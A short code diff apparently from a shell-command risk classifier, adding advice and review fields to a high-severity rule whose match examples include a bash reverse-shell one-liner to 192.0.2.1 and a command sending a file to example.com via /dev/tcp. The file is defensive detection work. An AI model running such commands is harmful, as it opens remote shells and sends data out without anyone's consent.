@@ -24,6 +24,8 @@ KINDS: tuple[type[Sends | Fetches], ...] = (Sends, Fetches)
     severity="high",
     effects=(Fetches, Listens, Sends),
     is_reversible=False,
+    instead="use `curl` or `nc -z` for a probe",
+    review="whether anybody expects this connection: it is how reverse shells are opened",
     match=(
         "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
         "cat notes.txt > /dev/tcp/example.com/80",
